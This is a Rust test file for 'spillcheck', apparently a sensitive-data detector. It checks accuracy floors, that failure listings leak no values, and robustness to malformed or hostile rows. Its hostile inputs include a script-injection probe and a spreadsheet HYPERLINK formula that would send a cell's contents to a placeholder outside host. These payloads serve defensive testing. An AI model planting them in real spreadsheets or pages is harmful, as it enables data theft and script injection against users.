//! How well rows are told, on the labelled rows of `tests/detect`, through `spillcheck score`. The floors only rise.
#![cfg(feature = "cli")]
#![allow(clippy::unwrap_used, clippy::indexing_slicing)]

use serde_json::Value;
use spillcheck::model::DataClass;
use std::collections::BTreeSet;
use std::io::Write;
use std::path::{Path, PathBuf};
use std::process::{Command, Output, Stdio};
use std::sync::OnceLock;

/// Group, least recall, greatest share of ordinary rows with a false alarm; `None`: the group has no such rows.
const FLOORS: [(&str, Option<f64>, Option<f64>); 39] = [
    ("credentials", Some(0.97), None),
    ("device-fields", None, Some(0.009)),
    ("export-credentials", Some(0.91), None),
    ("export-ordinary", None, Some(0.009)),
    ("export-values", Some(0.89), None),
    ("file-credentials", Some(0.91), None),
    ("file-ordinary", None, Some(0.018)),
    ("file-values", Some(0.79), None),
    ("key-alone", Some(0.99), None),
    ("key-ordinary", None, Some(0.0)),
    ("keys", Some(0.98), None),
    ("keys-path", Some(0.90), Some(0.0)),
    ("label-50", Some(0.94), None),
    ("label-8", Some(0.97), None),
    ("label-ordinary", None, Some(0.0)),
    ("labels-50", Some(0.97), None),
    ("labels-8", Some(0.98), None),
    ("labels-ordinary", None, Some(0.0)),
    ("look-alike-traps", None, Some(0.014)),
    ("look-alike-values", Some(0.97), None),
    ("maker-credentials", Some(0.90), None),
    ("maker-traps", None, Some(0.031)),
    ("maker-values", Some(0.83), None),
    ("ordinary", None, Some(0.0)),
    ("recorded-credentials", Some(0.89), None),
    ("recorded-ordinary", None, Some(0.013)),
    ("recorded-values", Some(0.76), None),
    ("text", Some(0.82), None),
    ("traps", None, Some(0.010)),
    ("traps-devices", None, Some(0.010)),
    ("unseen-credentials", Some(0.93), None),
    ("unseen-text", Some(0.73), None),
    ("unseen-traps", None, Some(0.014)),
    ("unseen-values", Some(0.92), None),
    ("values", Some(0.96), None),
    ("wide-credentials", Some(0.98), None),
    ("wide-text", Some(0.55), Some(0.06)),
    ("wide-traps", None, Some(0.010)),
    ("wide-values", Some(0.95), None),
];
/// Least precision over all rows, and over those that were there before harder ones came: without the files named here.
const PRECISION: [(&[&str], f64); 3] =
    [(&[], 0.95), (&["recorded.jsonl"], 0.96), (&["recorded.jsonl", "files.jsonl"], 0.97)];
const N_ROWS: usize = 33_700;

fn files() -> Vec<PathBuf> {
    let folder = Path::new(env!("CARGO_MANIFEST_DIR")).join("tests/detect");
    let mut files: Vec<PathBuf> = std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().path()).collect();
    files.retain(|path| path.extension().is_some_and(|ending| ending == "jsonl"));
    files.sort();
    files
}

fn rows() -> Vec<Value> {
    let lines = |path: &PathBuf| -> Vec<Value> {
        let text = std::fs::read_to_string(path).unwrap();
        text.lines().map(|line| serde_json::from_str(line).unwrap()).collect()
    };
    files().iter().flat_map(lines).collect()
}

fn labels(row: &Value) -> &[Value] {
    row["labels"].as_array().unwrap()
}

fn score(arguments: &[&str]) -> Output {
    score_of(arguments, &files())
}

fn score_of(arguments: &[&str], files: &[PathBuf]) -> Output {
    Command::new(env!("CARGO_BIN_EXE_spillcheck")).arg("score").args(arguments).args(files).output().unwrap()
}

#[test]
fn the_rows_are_many_and_half_of_them_hold_nothing() {
    let rows = rows();
    assert!(rows.len() >= N_ROWS, "{} rows", rows.len());
    let n_ordinary = rows.iter().filter(|row| labels(row).is_empty()).count();
    assert!(n_ordinary * 2 >= rows.len(), "{n_ordinary} of {} rows are without labels", rows.len());
    let ids: BTreeSet<String> = rows.iter().map(|row| row["id"].as_str().unwrap().to_owned()).collect();
    assert_eq!(ids.len(), rows.len(), "an id comes twice");
}

#[test]
fn every_row_has_only_fields_that_are_known() {
    let known = ["id", "group", "lang", "key", "path", "value", "values", "text", "labels"];
    for row in rows() {
        let fields = row.as_object().unwrap();
        assert!(fields.keys().all(|name| known.contains(&name.as_str())), "{}", row["id"]);
        assert!(FLOORS.iter().any(|(group, ..)| row["group"] == *group), "{}: no floor for its group", row["id"]);
        let n_contents = ["value", "values", "text"].iter().filter(|name| fields.contains_key(**name)).count();
        assert!(n_contents <= 1, "{}", row["id"]);
        assert!(fields.contains_key("key") || n_contents == 1, "{} holds nothing", row["id"]);
    }
}

#[test]
fn every_label_names_a_class_and_a_place_inside_the_text() {
    let classes: BTreeSet<&str> = DataClass::ALL.iter().map(|class| class.id()).collect();
    for row in rows() {
        for label in labels(&row) {
            let others = label["or"].as_array().map(Vec::as_slice).unwrap_or_default();
            for class in std::iter::once(&label["class"]).chain(others) {
                assert!(classes.contains(class.as_str().unwrap()), "{}: {class}", row["id"]);
            }
            let place = label["start"].as_u64().zip(label["end"].as_u64());
            assert_eq!(place.is_some(), label.get("start").or(label.get("end")).is_some(), "{}", row["id"]);
            if let Some((start, end)) = place {
                let text = row["text"].as_str().or(row["value"].as_str()).unwrap();
                assert!(start < end && end <= text.chars().count() as u64, "{}", row["id"]);
            }
        }
    }
}

#[test]
fn no_group_falls_below_its_floor() {
    let output = score(&["--format", "json"]);
    assert_eq!(output.status.code(), Some(0), "{}", String::from_utf8_lossy(&output.stderr));
    let report: Value = serde_json::from_slice(&output.stdout).unwrap();
    assert_eq!(report["rows"], rows().len());
    let groups = report["groups"].as_array().unwrap();
    assert_eq!(groups.len(), FLOORS.len());
    for (group, recall, share) in FLOORS {
        let measured = groups.iter().find(|measured| measured["group"] == group).unwrap();
        assert_eq!(measured["recall"].is_null(), recall.is_none(), "{measured}");
        assert_eq!(measured["false_alarm_share"].is_null(), share.is_none(), "{measured}");
        assert!(measured["recall"].as_f64() >= recall, "{measured}");
        assert!(measured["false_alarm_share"].as_f64() <= share, "{measured}");
    }
}

#[test]
fn rows_of_before_are_told_as_precisely_as_before() {
    for (later, least) in PRECISION {
        let mut files = files();
        files.retain(|path| !later.iter().any(|name| path.ends_with(name)));
        let report: Value = serde_json::from_slice(&score_of(&["--format", "json"], &files).stdout).unwrap();
        assert!(report["all"]["precision"].as_f64() >= Some(least), "without {later:?}: {}", report["all"]);
    }
}

#[test]
fn the_list_of_what_went_wrong_holds_no_value() {
    let listed = String::from_utf8(score(&["--list"]).stdout).unwrap();
    assert!(listed.contains("\nmissed\n") && listed.contains("\nfalse\n"));
    let rows = rows();
    let keys: Vec<&str> = rows.iter().filter_map(|row| row["key"].as_str()).collect();
    let mut n_values = 0;
    for row in &rows {
        // Short values may be part of a word, and some are the key of another row.
        let content = row["value"].as_str().or(row["text"].as_str()).unwrap_or_default();
        if content.chars().count() >= 12 && !keys.iter().any(|key| key.contains(content)) {
            assert!(!listed.contains(content), "{}", row["id"]);
            n_values += 1;
        }
    }
    assert!(n_values > 400, "{n_values} values were looked for");
}

#[test]
fn what_cannot_be_scored_is_said() {
    let program = env!("CARGO_BIN_EXE_spillcheck");
    let run = |arguments: &[&str]| Command::new(program).arg("score").args(arguments).output().unwrap();
    assert_eq!(run(&[]).status.code(), Some(2));
    assert_eq!(run(&["a", "--format", "csv"]).status.code(), Some(2));
    assert_eq!(run(&["absent.jsonl"]).status.code(), Some(1));
    let readme = concat!(env!("CARGO_MANIFEST_DIR"), "/tests/detect/README.md");
    let output = run(&[readme]);
    assert_eq!(output.status.code(), Some(1));
    assert!(String::from_utf8_lossy(&output.stderr).contains("are no labelled rows"));
}

/// What `detect` answers to lines of any bytes.
fn detect(lines: &[Vec<u8>]) -> Vec<Value> {
    let mut program = Command::new(env!("CARGO_BIN_EXE_spillcheck"))
        .arg("detect")
        .stdin(Stdio::piped())
        .stdout(Stdio::piped())
        .spawn()
        .unwrap();
    let mut input = program.stdin.take().unwrap();
    let bytes = lines.join(&b'\n');
    let writer = std::thread::spawn(move || input.write_all(&bytes).unwrap());
    let output = program.wait_with_output().unwrap();
    writer.join().unwrap();
    assert_eq!(output.status.code(), Some(0));
    output
        .stdout
        .split(|byte| *byte == b'\n')
        .filter(|line| !line.is_empty())
        .map(|line| serde_json::from_slice(line).unwrap())
        .collect()
}

#[test]
fn every_hostile_row_has_an_answer_and_the_next_one_is_read() {
    let field =
        |key: &str, value: &str| serde_json::json!({"id": 1, "key": key, "value": value}).to_string().into_bytes();
    let text = |text: &str| serde_json::json!({"id": 1, "text": text}).to_string().into_bytes();
    let deep = format!("{{\"id\":1,\"value\":{}1{}}}", "[".repeat(100_000), "]".repeat(100_000)).into_bytes();
    let hostile = [
        field(&"long_key_".repeat(120_000), "a"),
        field("note", &"a long value, and so it goes on. ".repeat(40_000)),
        text(&"a long text, and so it goes on. ".repeat(40_000)),
        field(&"\u{301}".repeat(10_000), &"\u{301}".repeat(10_000)),
        field("\u{202e}diss\u{202c}", "\u{200f}\u{2066}WiFi\u{2069}"),
        field("a\0b", "\0\0\0"),
        text("\0\u{1b}[2J\u{7}\u{feff}"),
        field("ssid", "📶🏠 Wi-Fi 📶"),
        field("nickname", "<script>alert(1)</script>"),
        field("nickname", "=HYPERLINK(\"https://192.0.2.1/?\"&A1)"),
        deep,
        b"{\"id\":1,\"key\":\"\\ud800\",\"value\":\"\\udfff\"}".to_vec(),
        b"{\"id\":1,\"key\":\"a\xff\xfe\",\"value\":\"\xc3\"}".to_vec(),
        b"{\"id\":1,\"key\":1e999,\"path\":[],\"values\":[1e999,{},[],null,true]}".to_vec(),
    ];
    for row in &hostile {
        let answers = detect(&[row.clone(), field("email", "pat@example.com")]);
        assert_eq!(answers.len(), 2, "{}", String::from_utf8_lossy(&row[..row.len().min(60)]));
        assert!(answers.iter().all(|answer| answer["id"] == 1), "{answers:?}");
        assert_eq!(answers[1]["detections"][0]["class"], "contact.email");
    }
    let first = |row: Vec<u8>| detect(&[row])[0]["detections"][0]["class"].clone();
    assert_eq!(first(field("ssid", "cafe@home.example")), "net.ssid");
    assert_eq!(first(field("nickname", "<script>alert(1)</script>")), "dev.nickname");
}

#[test]
fn lines_that_are_no_rows_are_answered_without_an_id() {
    let lines = [b"{".to_vec(), b"\xff\xfe\0".to_vec(), b"[1]".to_vec(), b"  ".to_vec(), b"{}".to_vec()];
    let answers = detect(&lines);
    assert_eq!(answers.len(), 4, "a blank line is none");
    assert!(answers.iter().all(|answer| *answer == serde_json::json!({"id": null, "detections": []})));
}

/// Words of a key as far as letters tell; `None` for keys in other than Latin letters without signs.
fn words_of(key: &str) -> Option<Vec<String>> {
    if !key.bytes().all(|byte| byte.is_ascii_alphanumeric() || b"_-. ".contains(&byte)) {
        return None;
    }
    let mut words = vec![String::new()];
    let mut is_lower_before = false;
    for letter in key.chars() {
        if !letter.is_ascii_alphanumeric() || (letter.is_ascii_uppercase() && is_lower_before) {
            words.push(String::new());
        }
        if letter.is_ascii_alphanumeric() {
            words.last_mut().unwrap().push(letter.to_ascii_lowercase());
        }
        is_lower_before = !letter.is_ascii_uppercase();
    }
    words.retain(|word| !word.is_empty());
    Some(words).filter(|words| !words.is_empty())
}

fn capitalised(word: &str) -> String {
    word[..1].to_ascii_uppercase() + &word[1..]
}

/// Classes that are told of each row, in order.
fn told(rows: &[Value]) -> Vec<BTreeSet<String>> {
    let lines: Vec<Vec<u8>> = rows.iter().map(|row| row.to_string().into_bytes()).collect();
    let classes = |answer: &Value| -> BTreeSet<String> {
        let all = answer["detections"].as_array().unwrap().iter();
        all.map(|one| one["class"].as_str().unwrap().to_owned()).collect()
    };
    detect(&lines).iter().map(classes).collect()
}

/// Rows with a key, and what is told of them.
fn keyed() -> &'static [(Value, BTreeSet<String>)] {
    static KEYED: OnceLock<Vec<(Value, BTreeSet<String>)>> = OnceLock::new();
    KEYED.get_or_init(|| {
        let rows: Vec<Value> =
            rows().into_iter().filter(|row| row["key"].is_string() && row["text"].is_null()).collect();
        let told = told(&rows);
        rows.into_iter().zip(told).collect()
    })
}

/// Shares of rows of which the answer changes when the row does, against the most that may.
#[track_caller]
fn check_same(what: &str, most: f64, change: impl Fn(&Value) -> Option<Value>) {
    let (changed, rows): (Vec<Value>, Vec<_>) = keyed().iter().filter_map(|row| Some((change(&row.0)?, row))).unzip();
    let differ = told(&changed).into_iter().zip(&rows).filter(|(told, (_, before))| told != before);
    let ids: Vec<&Value> = differ.map(|(_, (row, _))| &row["id"]).collect();
    assert!(rows.len() > 3_000, "{what}: {} rows", rows.len());
    let share = ids.len() as f64 / rows.len() as f64;
    assert!(share <= most, "{what}: {} of {} rows are told otherwise: {ids:?}", ids.len(), rows.len());
}

/// What answers of a service are wrapped in says nothing about what stands in them.
#[test]
fn a_parent_that_only_wraps_changes_nothing() {
    for wrap in ["data", "result/records/*", "attributes", "response/body", "payload/items/*"] {
        check_same(wrap, 0.005, |row| {
            let mut row = row.clone();
            let path = row["path"].as_str().map_or(wrap.to_owned(), |path| format!("{wrap}/{path}"));
            row["path"] = path.into();
            Some(row)
        });
    }
}

/// A name is the same name in the style of any language of programs.
#[test]
fn the_style_of_a_key_changes_nothing() {
    type Style = fn(&[String]) -> String;
    let styles: [(&str, Style); 6] = [
        ("snake", |words| words.join("_")),
        ("kebab", |words| words.join("-")),
        ("shouted", |words| words.join("_").to_ascii_uppercase()),
        ("Pascal", |words| words.iter().map(|word| capitalised(word)).collect()),
        ("camel", |words| words[..1].iter().cloned().chain(words[1..].iter().map(|word| capitalised(word))).collect()),
        ("title", |words| words.iter().map(|word| capitalised(word)).collect::<Vec<_>>().join(" ")),
    ];
    for (what, style) in styles {
        check_same(what, 0.005, |row| {
            let words = words_of(row["key"].as_str().unwrap())?;
            let mut row = row.clone();
            row["key"] = style(&words).into();
            Some(row)
        });
    }
}
